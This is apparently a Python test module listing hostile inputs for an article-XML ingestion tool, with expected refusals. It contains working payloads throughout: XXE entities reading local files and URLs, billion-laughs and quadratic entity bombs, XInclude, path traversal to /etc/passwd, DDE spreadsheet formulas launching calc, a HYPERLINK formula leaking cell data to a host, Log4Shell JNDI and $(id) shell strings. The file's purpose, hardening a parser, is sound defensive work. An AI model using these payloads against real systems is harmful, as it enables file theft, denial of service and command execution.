"""Article XML that refers to files and hosts or grows when parsed, and text that is dangerous in other programs."""

from __future__ import annotations

from collections.abc import Callable

from tests.attacks import Attack, Trap, made, refused
from tests.attacks.packing import CAPTION, article
from tests.attacks.pickles import in_place

BIDI, CSI = "\u202e", "\x9b"
"""The right-to-left override, and the single character that begins an escape sequence."""


def entity(kind: str) -> Callable[[Trap], bytes]:
    """Returns an article with an external entity in a caption; kind: its declaration, with {text} or {url}."""
    return lambda trap: article(
        caption=f"{CAPTION} &x;", doctype=f"<!DOCTYPE article [{kind.format(text=trap.text, url=trap.url)}]>"
    )


def laughs(depth: int) -> bytes:
    """Returns an article with entities each of which expands to ten of the next."""
    entities = "".join(f'<!ENTITY x{i} "{f"&x{i + 1};" * 10}">' for i in range(depth))
    return article(caption="&x0;", doctype=f'<!DOCTYPE article [{entities}<!ENTITY x{depth} "ha">]>')


def quadratic() -> bytes:
    """Returns an article that repeats one long entity."""
    return article(caption="&x;" * 20_000, doctype=f'<!DOCTYPE article [<!ENTITY x "{"x" * 50_000}">]>')


def caption(text: str) -> Callable[[Trap], bytes]:
    return made(article(caption=f"{CAPTION} {text}"))


def long(text: str) -> Callable[[Trap], bytes]:
    """Returns an article whose caption repeats a text up to the maximum length."""
    return made(article(caption=(text * (49_000 // len(text)))))


def href(reference: str) -> Callable[[Trap], bytes]:
    return lambda trap: article(href=reference.format(image=trap.image, url=trap.url))


def figures(count: int) -> bytes:
    """Returns an article of many figures, all cited by one paragraph."""
    figs = "".join(f'<fig id="g{i}"><caption><p>A scan</p></caption></fig>' for i in range(count))
    cited = "".join(f'<xref ref-type="fig" rid="g{i}">{i}</xref>' for i in range(count))
    return article().replace(b"</body>", f"<p>{cited}</p>{figs}</body>".encode())


INCLUDE = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{}" parse="text"/>'
DEEP = "Excessive depth"

DOCUMENTS = [
    refused("a pickle in place of an article", in_place("a pickle in letters"), "XML: "),
    refused("an external entity: a file URL", entity('<!ENTITY x SYSTEM "file://{text}">'), "XML: "),
    refused("an external entity: a path", entity('<!ENTITY x SYSTEM "{text}">'), "XML: "),
    refused("an external entity: an HTTP URL", entity('<!ENTITY x SYSTEM "{url}">'), "XML: "),
    refused("an external entity inside an entity",
            entity('<!ENTITY y SYSTEM "file://{text}"><!ENTITY x "&y;">'), "XML: "),
    refused("a parameter entity",
            entity('<!ENTITY % p SYSTEM "{url}"><!ENTITY % q "<!ENTITY x SYSTEM \'file://{text}\'>">%p;%q;'), "XML: "),
    Attack("an external DTD: a file",
           lambda trap: article(doctype=f'<!DOCTYPE article SYSTEM "file://{trap.text}">')),
    Attack("an external DTD: an HTTP URL", lambda trap: article(doctype=f'<!DOCTYPE article SYSTEM "{trap.url}">')),
    Attack("XInclude of a file", lambda trap: article(caption=CAPTION + INCLUDE.format(f"file://{trap.text}"))),
    Attack("XInclude of an HTTP URL", lambda trap: article(caption=CAPTION + INCLUDE.format(trap.url))),
    Attack("an XSLT style sheet",
           lambda trap: article(doctype=f'<?xml-stylesheet type="text/xsl" href="{trap.url}"?>')),
    refused("a billion laughs", made(laughs(9)), "XML: "),
    refused("an entity that contains itself",
            entity('<!ENTITY x "&y;"><!ENTITY y "&x;">'), "XML: "),
    refused("a quadratic blow-up", made(quadratic()), "XML: "),
    refused("elements nested 300 deep", caption("<b>" * 300 + "</b>" * 300), "XML: "),
    refused("elements nested a million deep", caption("<b>" * 1_000_000), "XML: "),
    refused("a text of 11 MB", caption("x" * (11 << 20)), "XML: "),
    refused("an attribute of 11 MB", caption(f'<b c="{"x" * (11 << 20)}"/>'), "XML: "),
    refused("a name of 11 MB", caption(f"<{'x' * (11 << 20)}/>"), "XML: "),
    Attack("100,000 elements with different names", caption("".join(f"<b{i}/>" for i in range(100_000)))),
    Attack("10,000 attributes", caption("<b " + " ".join(f"c{i}='1'" for i in range(10_000)) + "/>")),
    Attack("20,000 namespaces", caption("".join(f'<n{i}:b xmlns:n{i}="n{i}"/>' for i in range(20_000)))),
    Attack("2,000 figures without an image", made(figures(2_000)), "no_graphic"),
    refused("10,000 figures cited by one passage", made(figures(10_000)), "XML: the passages that cite"),
    Attack("a citation of a range of a billion figures",
           caption("Figures 1\u2013999999999, S1-S999999999 and 3a\u2013z show it.")),
    Attack("an article in UTF-16", made(article().decode().replace("UTF-8", "UTF-16").encode("utf-16"))),
    refused("an article that declares UTF-16 falsely", made(article().replace(b"UTF-8", b"UTF-16")), "XML: "),
    Attack("an article in UTF-7", made(article(CAPTION).decode().replace("UTF-8", "UTF-7").encode("utf-7"))),
    refused("an article that declares an unknown encoding", made(article().replace(b"UTF-8", b"x" * 500)), "XML: "),
    refused("an article that is invalid in its encoding",
            made(article(caption="\u00e9").replace("\u00e9".encode(), b"\xe9")), "XML: "),
    refused("an escape character", caption("&#27;[31m"), "XML: "),
    refused("a NUL", caption("&#0;"), "XML: "),
    refused("a literal NUL", made(article().replace(b"nodule", b"nod\0ule")), "XML: "),
    refused("a lone surrogate", caption("&#xD800;"), "XML: "),
    refused("a truncated article", made(article()[:-200]), "XML: "),
    refused("XML that is not an article", made(b"<html><body>404</body></html>"), "XML: no <article>"),
    refused("a JPEG in place of the article", made(b"\xff\xd8\xff\xe0" * 50), "XML: "),
]  # fmt: skip

ADDRESSES = [
    Attack("a file URL", href("file://{image}"), "missing"),
    Attack("an absolute path", href("{image}"), "missing"),
    Attack("a path with ..", href("../../../../..{image}"), "missing"),
    Attack("a path with .., percent-encoded", href("..%2f..%2f..%2f..{image}"), "missing"),
    Attack("an HTTP URL", href("{url}secret.jpg"), "missing"),
    Attack("an indirect path to an image of the package", href("../a/../f1.jpg")),
    Attack("an HTTP URL that ends in the name of an image of the package", href("http://example.org/f1.jpg?x=../../y")),
    Attack("/etc/passwd", href("../../../../../../etc/passwd"), "missing"),
]

TEXTS = [
    Attack("an escape sequence that starts with one C1 character", caption(f"{CSI}31m{CSI}2J red")),
    Attack("right-to-left override", caption(f"see {BIDI}gpj.exe\u2066 \u200b\ufeff")),
    Attack("control characters in the title", made(article(title=f"A{CSI}2J {BIDI}esac\x85"))),
    Attack("a spreadsheet formula", made(article(caption="=cmd|' /C calc'!A0 CT of the chest"))),
    Attack("a spreadsheet formula after a tab", made(article(caption="\t@SUM(1+1)*cmd|'/C calc'!A0 CT of the chest"))),
    Attack("a spreadsheet formula in the title", made(article(title='=HYPERLINK("http://example.org?"&amp;A1)'))),
    Attack("the end tag of a script", caption("&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;")),
    Attack("terminal markup", caption("[red]red[/red] [/] [link=file:///etc/passwd]x[/link] \\[b]")),
    Attack("a line break followed by a CSV row", caption('",""\r\n\r\n"ROCOv2_x","CT&#13;&#10;x","')),
    Attack("format strings and shell syntax", caption("%s%n{0}{x.__class__}${{jndi:ldap://x}} $(id) `id`")),
    Attack("a path as an id", made(article().replace(b'id="f1"', b'id="../../../escaped&#10;x"'))),
    Attack("a caption of 9 MB", made(article(caption="CT of the chest. " * 550_000)), "caption"),
    Attack("a caption of brackets", long("((([[[{{{"), "caption"),
    Attack("a caption of dollars", long("$ \\begin{a} "), "caption"),
    Attack("a caption of URLs", long("http://doi.org/"), "caption"),
    Attack("a caption of numbers", long("1a-")),
    Attack("a caption of letters in brackets", long("(a) ")),
    Attack("a caption of credits", long("reproduced with permission from "), "rights"),
    Attack("a caption of citations of figures", long("see Figure 1, ")),
    Attack("a caption of spaces", made(article(caption="CT" + " \u00a0\t" * 16_000 + "of the chest"))),
]
